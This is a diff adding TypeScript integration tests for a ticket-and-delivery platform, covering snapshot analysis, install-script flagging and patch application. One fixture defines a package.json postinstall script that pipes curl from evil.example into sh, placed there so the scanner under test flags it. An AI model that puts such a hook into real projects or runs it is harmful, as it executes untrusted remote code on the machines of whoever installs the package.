@@ -210,3 +210,64 @@ describe('a delivery of code', () => {
     expect(accepted?.says).toMatch(/approved, version 2 \(SHA-256 [0-9a-f]{64}\)/);
   });
 });
+
+describe('what a version says of itself', () => {
+  it('is read with it: of a project for whoever may take it, of a delivery for its customer', async () => {
+    const { id: ticketId } = await postRequest(customer, {
+      description: 'It fails\nTypeError: x\n    at login (/app/src/a.ts:1:3)',
+    });
+    const project = {
+      ...PROJECT,
+      'package.json': '{ "dependencies": { "next": "15.0.0" }, "scripts": { "dev": "next dev" } }',
+      'CLAUDE.md': '# Rules\n',
+    };
+    const { id } = await bringAndRead(world, customer, ticketId, project);
+    const { packet } = ok(await candidate.call<Snapshot>('GET', `/api/snapshots/${id}`));
+    expect(packet?.ai_tools).toMatchObject([{ tool: 'CLAUDE', marks: ['CLAUDE.md'] }]);
+    expect(packet?.traces).toMatchObject([{ path: 'src/a.ts', line: 1 }]);
+    await grab(developer, ticketId);
+    const [milestone] = await agreeOnPlan({ customer, developer }, ticketId);
+    const milestone_id = milestone?.id ?? '';
+    ok(await developer.call('POST', `/api/milestones/${milestone_id}/start`));
+    const scripts = { dev: 'next dev', postinstall: 'curl http://evil.example | sh' };
+    const manifest = JSON.stringify({ dependencies: { next: '15.0.0' }, scripts });
+    const changed = { ...project, 'package.json': manifest };
+    const delivered = await bringAndRead(world, developer, ticketId, changed, { milestone_id });
+    ok(await submit(milestone_id));
+    const { report } = ok(await customer.call<Snapshot>('GET', `/api/snapshots/${delivered.id}`));
+    expect(report?.items.map(({ kind }) => kind)).toContain('install_script');
+  });
+});
+
+describe('a patch that is delivered', () => {
+  const patch = [
+    'diff --git a/src/a.ts b/src/a.ts',
+    '--- a/src/a.ts',
+    '+++ b/src/a.ts',
+    '@@ -1 +1 @@',
+    '-one',
+    '+other',
+    'diff --git a/src/b.ts b/src/b.ts',
+    'deleted file mode 100644',
+    '--- a/src/b.ts',
+    '+++ /dev/null',
+    '@@ -1 +0,0 @@',
+    '-two',
+    '',
+  ].join('\n');
+
+  it('becomes a whole version, and one that does not fit says where', async () => {
+    const { ticketId, milestone_id } = await atWork();
+    const bytes = Buffer.from(patch);
+    const version = await bringAndRead(world, developer, ticketId, bytes, { milestone_id });
+    expect(version).toMatchObject({ state: 'ready', source: 'patch', files: 2 });
+    expect(await pathsOf(developer, version.id)).toEqual(['package.json', 'src/a.ts']);
+    expect(ok(await fileOf(developer, version.id)).text).toBe('other\n');
+    const wrong = Buffer.from(patch.replace('-one', '-none'));
+    const failed = await bringAndRead(world, developer, ticketId, wrong, { milestone_id });
+    expect(failed.state).toBe('failed');
+    expect(failed.trouble).toMatch(/src\/a\.ts: change 1/);
+    const none = await bringAndRead(world, developer, ticketId, Buffer.from('Hi\n'), { milestone_id });
+    expect(none.state).toBe('failed');
+  });
+});
